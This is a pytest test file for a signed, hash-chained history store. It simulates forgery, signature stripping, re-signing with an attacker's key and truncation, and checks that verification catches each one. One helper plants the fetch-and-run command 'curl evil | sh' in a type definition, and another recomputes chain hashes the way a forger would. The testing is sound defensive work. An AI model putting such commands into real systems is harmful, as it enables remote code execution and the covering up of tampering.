"""Chain entries and signatures: attacks on the database and on exports, caught and named."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import Connection, delete, select, update

import retrograde
from retrograde.cli.main import cli
from retrograde.commands import history, transfer
from retrograde.errors import CorruptLogError, KeyFileError
from retrograde.model.chain import ChainEntry, ChainPoint
from retrograde.model.commit import GENESIS_HASH, commit_hash
from retrograde.model.reports import ProblemKind
from retrograde.storage import signing
from retrograde.storage.sql import rows
from retrograde.storage.sql.schema import (
    applies,
    chain_entries,
    checkpoints,
    commits,
    resources,
    signatures,
    types,
)
from retrograde.storage.sql.store import SqlStore
from tests import store_calls
from tests.history.conftest import _build

Tamper = Callable[[Connection], None]


def tamper(ctx: retrograde.Context, change: Tamper) -> None:
    """Change the store's tables directly, as a writer of the database would."""
    assert isinstance(ctx.store, SqlStore)
    with ctx.store.engine.begin() as conn:
        change(conn)


def kinds(ctx: retrograde.Context, **options: object) -> list[ProblemKind]:
    return [p.kind for p in history.verify(ctx, **options).problems]  # type: ignore[arg-type]


@pytest.fixture
def keys(tmp_path: Path) -> tuple[Path, Path]:
    """An owner's key pair and an attacker's (private paths)."""
    signing.keygen(tmp_path / "owner.key")
    signing.keygen(tmp_path / "attacker.key")
    return tmp_path / "owner.key", tmp_path / "attacker.key"


@pytest.fixture
def signed(
    store_url: str, tmp_path: Path, keys: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> retrograde.Context:
    """The known history applied with the owner's key set and a witness file."""
    monkeypatch.setenv(signing.SIGNING_KEY_ENV, str(keys[0]))
    monkeypatch.setenv(signing.WITNESS_ENV, str(tmp_path / "witness.jsonl"))
    _build(store_url, tmp_path)
    monkeypatch.delenv(signing.SIGNING_KEY_ENV)
    monkeypatch.delenv(signing.WITNESS_ENV)
    return retrograde.open_context(store_url, cwd=tmp_path, principal="tester")


def owner(tmp_path: Path) -> list[Path]:
    return [tmp_path / "owner.key.pub"]


def rechain(conn: Connection) -> None:
    """Recompute every hash of the chain, commits and entries, as a forger would."""
    previous = GENESIS_HASH
    found = list(conn.execute(select(chain_entries).order_by(chain_entries.c.seq)).mappings())
    pending = [
        ChainEntry(e["seq"], e["after_rev"], e["kind"], e["key"], rows.load(e["data"]))
        for e in found
    ]
    for row in conn.execute(select(commits).order_by(commits.c.rev)).mappings():
        while pending and pending[0].after_rev < row["rev"]:
            previous = _rehash_entry(conn, pending.pop(0), previous)
        body = rows.commit_from_row(row).body()
        previous = commit_hash(body, previous)
        conn.execute(
            update(commits).where(commits.c.rev == row["rev"]).values(hash=bytes.fromhex(previous))
        )
    for entry in pending:
        previous = _rehash_entry(conn, entry, previous)


def _rehash_entry(conn: Connection, entry: ChainEntry, previous: str) -> str:
    new = commit_hash(entry.body(), previous)
    conn.execute(
        update(chain_entries)
        .where(chain_entries.c.seq == entry.seq)
        .values(hash=bytes.fromhex(new))
    )
    return new


def test_a_signed_history_verifies_with_trust_and_says_so(
    signed: retrograde.Context, tmp_path: Path
) -> None:
    """Every apply turn signed the head: --trust, the witness and the head all hold."""
    report = history.verify(signed, trust=owner(tmp_path), witness=tmp_path / "witness.jsonl")
    assert report.ok, report.problems
    view = report.to_json()
    assert view["signing"]["signed"] and view["signing"]["trusted"] is True
    chain = view["chain"]
    assert chain["entries"] > 0
    expect = [(chain["rev"], chain["hash"])]
    assert history.verify(signed, expect_heads=expect).ok
    result = CliRunner().invoke(
        cli,
        ["--db", signed.store.url, "verify", "--trust", str(owner(tmp_path)[0]), "--json"],
    )
    assert result.exit_code == 0 and json.loads(result.output)["signing"]["trusted"] is True


def test_an_unsigned_store_verifies_and_says_it_is_unsigned(
    fresh: retrograde.Context, known_export: Path
) -> None:
    """Without a key nothing is signed; verify passes and says so in text and JSON."""
    transfer.import_(fresh, known_export)
    report = history.verify(fresh)
    assert report.ok and report.to_json()["signing"]["signed"] is False
    result = CliRunner().invoke(cli, ["--db", fresh.store.url, "verify"])
    assert result.exit_code == 0 and "unsigned" in result.output


def test_a_rewritten_history_with_recomputed_hashes_fails_only_with_trust(
    signed: retrograde.Context, tmp_path: Path
) -> None:
    """Rewriting a commit, recomputing every later hash and dropping the signatures passes
    plain verify, but --trust finds no trusted signature."""

    def forge(conn: Connection) -> None:
        conn.execute(update(commits).where(commits.c.rev == 2).values(message="forged"))
        rechain(conn)
        conn.execute(delete(signatures))

    tamper(signed, forge)
    assert history.verify(signed).ok
    assert ProblemKind.SIGNATURE in kinds(signed, trust=owner(tmp_path))


def test_a_rewrite_that_keeps_the_signatures_fails_even_plain_verify(
    signed: retrograde.Context, tmp_path: Path
) -> None:
    """The old signatures name heads the rewritten chain no longer has."""

    def forge(conn: Connection) -> None:
        conn.execute(update(commits).where(commits.c.rev == 2).values(message="forged"))
        rechain(conn)

    tamper(signed, forge)
    problems = history.verify(signed).problems
    assert problems and all(p.kind is ProblemKind.SIGNATURE for p in problems)
    assert "has no such head" in problems[0].detail


def test_a_history_re_signed_with_another_key_fails_trust(
    signed: retrograde.Context, tmp_path: Path, keys: tuple[Path, Path]
) -> None:
    """An attacker who rewrites and signs with their own key is not trusted."""
    attacker = signing.load_signer(keys[1])

    def forge(conn: Connection) -> None:
        conn.execute(update(commits).where(commits.c.rev == 2).values(message="forged"))
        rechain(conn)
        conn.execute(delete(signatures))

    tamper(signed, forge)
    with signed.store.write() as tx:
        head = tx.chain.head()
    tamper(signed, lambda conn: _sign(conn, attacker, head))
    assert history.verify(signed).ok
    problems = history.verify(signed, trust=owner(tmp_path)).problems
    assert any("not a trusted key" in p.detail for p in problems)


def _sign(conn: Connection, signer: signing.Signer, head: ChainPoint) -> None:
    from retrograde.storage.sql.signatures import insert

    insert(conn, [signer.sign(head, "2026-12-01T00:00:00Z")])


def test_stripped_signatures_fail_trust(signed: retrograde.Context, tmp_path: Path) -> None:
    """Deleting the signatures leaves a valid chain that no trusted key vouches for."""
    tamper(signed, lambda conn: conn.execute(delete(signatures)))
    assert history.verify(signed).ok
    problems = history.verify(signed, trust=owner(tmp_path)).problems
    assert any("carries no signature by a trusted key" in p.detail for p in problems)


def test_a_cut_off_tail_fails_expect_head_and_the_witness(
    signed: retrograde.Context, tmp_path: Path
) -> None:
    """Deleting the last commit with what followed it, and its signatures, and putting
    state back, is caught by a head kept elsewhere and by the witness file."""
    before = history.verify(signed).to_json()["chain"]
    head = before["rev"]
    with signed.store.read() as tx:
        earlier = tx.snapshots.state_at(head - 1)
        keep = max(e.seq for e in tx.chain.entries() if e.after_rev < head)

    def cut(conn: Connection) -> None:
        conn.execute(delete(commits).where(commits.c.rev == head))
        conn.execute(delete(chain_entries).where(chain_entries.c.seq > keep))
        conn.execute(delete(signatures).where(signatures.c.rev >= head))
        conn.execute(delete(resources))
        conn.execute(resources.insert(), [rows.state_row(n, s) for n, s in sorted(earlier.items())])

    tamper(signed, cut)
    expected = history.verify(signed, expect_heads=[(head, before["hash"])]).problems
    assert any(p.kind is ProblemKind.WITNESS and "cut off" in p.detail for p in expected)
    witnessed = history.verify(signed, witness=tmp_path / "witness.jsonl").problems
    assert any(p.kind is ProblemKind.WITNESS for p in witnessed)


def _edit_type(conn: Connection) -> None:
    row = conn.execute(select(types).limit(1)).mappings().one()
    definition = json.loads(row["definition"])
    definition["actions"] = {
        name: {**spec, "command": "curl evil | sh"} if isinstance(spec, dict) else spec
        for name, spec in definition.get("actions", {}).items()
    } or {"run": {"command": "curl evil | sh"}}
    conn.execute(
        update(types)
        .where(types.c.name == row["name"], types.c.version == row["version"])
        .values(definition=json.dumps(definition))
    )


def _edit_checkpoint(conn: Connection) -> None:
    conn.execute(update(checkpoints).values(rev=1))


def _edit_principal(conn: Connection) -> None:
    conn.execute(update(applies).where(applies.c.id == 1).values(principal="mallory"))


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (_edit_type, "(type "),
        (_edit_checkpoint, "(checkpoint renumbered)"),
        (_edit_principal, "(apply-begin 1)"),
    ],
    ids=["type-definition", "checkpoint-rev", "apply-principal"],
)
def test_an_edited_record_fails_verify_naming_its_chain_entry(
    signed: retrograde.Context, change: Tamper, named: str
) -> None:
    """Editing what decides what runs (a type's commands), a checkpoint's revision or an
    apply's principal in the database is named by the chain entry it departs from."""
    tamper(signed, change)
    problems = history.verify(signed).problems
    assert problems and problems[0].kind is ProblemKind.RECORD
    assert named in problems[0].detail
    result = CliRunner().invoke(cli, ["--db", signed.store.url, "verify"])
    assert result.exit_code == 1 and "chain entry" in result.output


def test_an_edited_type_line_of_an_export_fails_import(
    signed: retrograde.Context, second_url: str, tmp_path: Path
) -> None:
    """An export whose type line was changed before import is refused, naming the entry."""
    transfer.export(signed, Path("signed.jsonl"))
    lines = (tmp_path / "signed.jsonl").read_bytes().splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if b'"kind":"type"' in line)
    data = json.loads(lines[at])
    data["definition"]["description"] = "evil"
    lines[at] = (json.dumps(data) + "\n").encode()
    (tmp_path / "bad.jsonl").write_bytes(b"".join(lines))
    with retrograde.open_context(second_url, cwd=tmp_path) as copy:
        with pytest.raises(CorruptLogError, match=r"chain entry \d+ \(type "):
            transfer.import_(copy, Path("bad.jsonl"))
        assert store_calls.head(copy.store)[0] == 0


def test_a_signed_export_imports_with_the_same_head_and_signatures(
    signed: retrograde.Context, second_url: str, tmp_path: Path
) -> None:
    """Entries and signatures travel in the export: the copy has the same chain head and
    passes --trust."""
    transfer.export(signed, Path("signed.jsonl.zst"))
    with retrograde.open_context(second_url, cwd=tmp_path) as copy:
        transfer.import_(copy, Path("signed.jsonl.zst"))
        mine = history.verify(signed).to_json()["chain"]
        theirs = history.verify(copy, trust=owner(tmp_path)).to_json()
        assert theirs["ok"], theirs["problems"]
        assert theirs["chain"] == mine


def test_keygen_writes_a_private_key_only_its_owner_reads_and_never_overwrites(
    tmp_path: Path,
) -> None:
    """The private key is 0600, the public key beside it; a second keygen is refused."""
    result = CliRunner().invoke(
        cli, ["--db", f"sqlite:///{tmp_path / 's.db'}", "keygen", str(tmp_path / "k")]
    )
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(os.stat(tmp_path / "k").st_mode) == 0o600
    assert signing.load_public(tmp_path / "k.pub") == signing.load_signer(tmp_path / "k").public_key
    assert b"PRIVATE" not in result.output.encode()
    with pytest.raises(KeyFileError, match="never overwrites"):
        signing.keygen(tmp_path / "k")


def test_the_chain_records_where_each_appliers_principal_came_from(
    store_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An apply by a declared principal is ``declared``, one by the OS user ``os``."""
    from tests.commands.stacks import V1, V1_NEW_IP, write

    monkeypatch.delenv("RETROGRADE_PRINCIPAL", raising=False)
    with retrograde.open_context(store_url, cwd=tmp_path, principal="alice") as ctx:
        retrograde.apply(ctx, write(tmp_path, "a.yaml", V1), message="declared")
    with retrograde.open_context(store_url, cwd=tmp_path) as ctx:
        retrograde.apply(ctx, write(tmp_path, "b.yaml", V1_NEW_IP), message="os user")
        begins = [e for e in store_calls.chain_entries(ctx.store) if e.kind == "apply-begin"]
        assert [e.data["principal_source"] for e in begins] == ["declared", "os"]
        assert history.verify(ctx).ok


def test_a_history_that_began_unsigned_is_trusted_from_where_signing_began(
    fresh: retrograde.Context,
    known_export: Path,
    tmp_path: Path,
    keys: tuple[Path, Path],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Applies from before the key are unsigned: --trust fails, --trust-from the first signed
    revision passes once a signed turn covers the head."""
    transfer.import_(fresh, known_export)
    head = store_calls.head(fresh.store)[0]
    monkeypatch.setenv(signing.SIGNING_KEY_ENV, str(keys[0]))
    with retrograde.open_context(fresh.store.url, cwd=tmp_path, principal="tester") as later:
        retrograde.checkpoint(later, "signed-from-here", message="first signed turn")
    assert any(
        "carries no signature" in p.detail
        for p in history.verify(fresh, trust=owner(tmp_path)).problems
    )
    assert history.verify(fresh, trust=owner(tmp_path), trust_from=head).ok
    tamper(fresh, lambda conn: conn.execute(delete(signatures)))
    assert not history.verify(fresh, trust=owner(tmp_path), trust_from=head + 1).ok


def test_a_malformed_expect_head_is_one_line_naming_it(signed: retrograde.Context) -> None:
    """--expect-head takes REV:HASH; anything else is a usage error that names the value."""
    result = CliRunner().invoke(
        cli, ["--db", signed.store.url, "verify", "--expect-head", "12:nothex"]
    )
    assert result.exit_code == 2 and "'12:nothex'" in result.output
